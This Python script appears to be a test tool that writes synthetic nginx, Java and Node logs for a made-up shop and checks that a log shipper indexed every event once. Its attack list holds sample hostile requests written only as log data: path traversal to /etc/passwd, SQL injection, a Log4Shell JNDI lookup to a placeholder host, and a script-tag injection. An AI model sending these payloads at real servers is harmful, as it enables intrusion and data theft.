"""
Writes logs like those of a small shop: an nginx in front, a Java service, a Node API. Standard library only.

    writer.py write FOLDER [--rate N] [--events N] [--seed N]    append events, N a second, until N or SIGTERM
    writer.py compare FOLDER < hits                              compare with `shipper search --json`

The addresses, names and attacks are made up; addresses are from the blocks that are set aside for documentation.
"""

from __future__ import annotations

import argparse
import json
import random
import signal
import sys
import time
from collections import Counter
from datetime import UTC, datetime, timedelta
from pathlib import Path

NGINX, JAVA, NODE = "access.log", "app.log", "events.json"

_PATHS = [
    "/",
    "/cart",
    "/checkout",
    "/api/v1/orders",
    "/img/logo.svg",
    "/suche?q=gr%C3%BCn",
    "/müller/größe",
    "/商品/靴",
]
_ATTACKS = [
    "GET /../../../../etc/passwd HTTP/1.1",
    "GET /index.php?id=1%27%20OR%20%271%27=%271 HTTP/1.1",
    "GET /?x=${jndi:ldap://198.51.100.66/a} HTTP/1.1",
    r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03",
    r"GET /<script>alert(\x22x\x22)</script> HTTP/1.1",
    "",
]
_AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15",
    "curl/8.11.0",
    r"Robot \x22机器人\x22 🤖/1.0",
]
_NAMES = ["Zoë", "José", "Łukasz", "田中", "Ann"]
_CAUSES = [
    (
        "java.net.SocketTimeoutException",
        "Read timed out",
        "com.example.shop.pay.GatewayClient.charge",
    ),
    (
        "java.sql.SQLTransientConnectionException",
        "HikariPool-1 - Connection is not available",
        "com.example.shop.db.Orders.insert",
    ),
    (
        "java.lang.NullPointerException",
        'Cannot invoke "Address.zip()" because "address" is null',
        "com.example.shop.ship.Label.of",
    ),
]


class Shop:
    """Makes events; the same seed and times make the same ones."""

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed)
        self._order = 1000

    def event(self, now: datetime) -> tuple[str, str]:
        """The next event: the file it belongs to, and its text without the last newline."""
        kind = self._random.choices((NGINX, NODE, JAVA), (6, 3, 1))[0]
        return kind, {NGINX: self._nginx, NODE: self._node, JAVA: self._java}[kind](now)

    def _address(self) -> str:
        pick = self._random
        if pick.random() < 0.3:
            return f"2001:db8:{pick.randrange(1 << 16):x}::{pick.randrange(1 << 16):x}"
        return f"{pick.choice(['192.0.2', '198.51.100', '203.0.113'])}.{pick.randrange(256)}"

    def _nginx(self, now: datetime) -> str:
        pick = self._random
        if pick.random() < 0.04:
            request, status = pick.choice(_ATTACKS), pick.choice([400, 403, 404])
        else:
            request = f"{pick.choice(['GET', 'GET', 'GET', 'POST'])} {pick.choice(_PATHS)} HTTP/1.1"
            status = pick.choices([200, 304, 404, 500, 502], [85, 8, 4, 2, 1])[0]
        size = 0 if status == 304 else pick.randrange(200, 40_000)
        user = "-" if pick.random() < 0.95 else pick.choice(_NAMES)
        return (
            f'{self._address()} - {user} [{now:%d/%b/%Y:%H:%M:%S +0000}] "{request}" {status} {size} "-" '
            f'"{pick.choice(_AGENTS)}"'
        )

    def _node(self, now: datetime) -> str:
        pick = self._random
        self._order += 1
        bad = pick.random() < 0.05
        event = {
            "level": 50 if bad else 30,
            "time": int(now.timestamp() * 1000),
            "pid": 4711,
            "hostname": "api-1",
            "reqId": f"req-{pick.randrange(1 << 32):08x}",
            "order": {
                "id": f"A-{self._order}",
                "customer": pick.choice(_NAMES),
                "total": pick.randrange(500, 50_000) / 100,
            },
            "responseTime": pick.randrange(1, 900),
            "msg": "payment declined" if bad else "order placed",
        }
        return json.dumps(event, ensure_ascii=False, separators=(",", ":"))

    def _java(self, now: datetime) -> str:
        pick = self._random
        head = f"{now:%Y-%m-%d %H:%M:%S},{now.microsecond // 1000:03d}"
        thread = f"[http-nio-8080-exec-{pick.randrange(1, 9)}]"
        if pick.random() < 0.6:
            return f"{head} INFO  {thread} c.e.shop.Checkout - Paket für {pick.choice(_NAMES)} verpackt"
        cause, why, place = pick.choice(_CAUSES)
        order = f"A-{pick.randrange(1000, 2000)}"
        return "\n".join(
            (
                f"{head} ERROR {thread} c.e.shop.Checkout - Order {order} failed",
                f"com.example.shop.CheckoutException: order {order} was not completed",
                "\tat com.example.shop.Checkout.complete(Checkout.java:117)",
                "\tat com.example.shop.web.OrderController.post(OrderController.java:52)",
                "\tat java.base/java.lang.Thread.run(Thread.java:1583)",
                f"Caused by: {cause}: {why}",
                f"\tat {place}({place.split('.')[-2]}.java:{pick.randrange(20, 400)})",
                "\t... 2 more",
            )
        )


def write(
    folder: Path, *, rate: float, events: int | None, seed: int, start: datetime | None
) -> None:
    """
    Append events to the three files until there are enough or SIGTERM asks to stop.

    Args:
        folder: where the files are; made if it is missing.
        rate: events a second; 0 writes as fast as it can.
        events: how many; None goes on.
        seed: of the random choices.
        start: time of the first event, the next ones 37 ms apart each; None takes the clock.
    """
    stopped: list[int] = []
    for number in (signal.SIGTERM, signal.SIGINT):
        signal.signal(number, lambda number, _: stopped.append(number))
    shop = Shop(seed)
    folder.mkdir(parents=True, exist_ok=True)
    with (
        (folder / NGINX).open("a", encoding="utf-8", newline="\n") as nginx,
        (folder / JAVA).open("a", encoding="utf-8", newline="\n") as java,
        (folder / NODE).open("a", encoding="utf-8", newline="\n") as node,
    ):
        files = {NGINX: nginx, JAVA: java, NODE: node}
        began, done = time.monotonic(), 0
        while not stopped and (events is None or done < events):
            now = start + timedelta(milliseconds=37 * done) if start else datetime.now(UTC)
            name, text = shop.event(now)
            files[name].write(text + "\n")
            files[name].flush()
            done += 1
            if rate:
                time.sleep(max(0.0, began + done / rate - time.monotonic()))


def starts(path: Path) -> list[int]:
    """Offsets at which the events of a file begin: every line; in the Java log every line with a date."""
    java = path.name == JAVA
    offsets, at = [], 0
    with path.open("rb") as file:
        for line in file:
            if not java or line[:2] == b"20":
                offsets.append(at)
            at += len(line)
    return offsets


def compare(folder: Path) -> int:
    """Compare the files with the hits on standard input; 0 if every event is there exactly once."""
    written = Counter((name, at) for name in (NGINX, JAVA, NODE) for at in starts(folder / name))
    found: Counter[tuple[str, int]] = Counter()
    for line in sys.stdin:
        log = json.loads(line)["_source"]["log"]
        found[
            Path(log["file"]["path"]).relative_to(folder.resolve()).as_posix(), log["offset"]
        ] += 1
    missing, surplus = written - found, found - written
    print(
        f"{written.total():,} events in the files, {found.total():,} documents in the store: ",
        end="",
    )
    print(f"{missing.total()} missing, {surplus.total()} twice")
    return 1 if missing or surplus else 0


def main() -> int:
    """Read the command line."""
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    commands = parser.add_subparsers(dest="command", required=True)
    writing = commands.add_parser("write")
    writing.add_argument("folder", type=Path)
    writing.add_argument("--rate", type=float, default=50)
    writing.add_argument("--events", type=int)
    writing.add_argument("--seed", type=int, default=1)
    writing.add_argument("--start", type=datetime.fromisoformat)
    comparing = commands.add_parser("compare")
    comparing.add_argument("folder", type=Path)
    args = parser.parse_args()
    if args.command == "compare":
        return compare(args.folder)
    write(args.folder, rate=args.rate, events=args.events, seed=args.seed, start=args.start)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
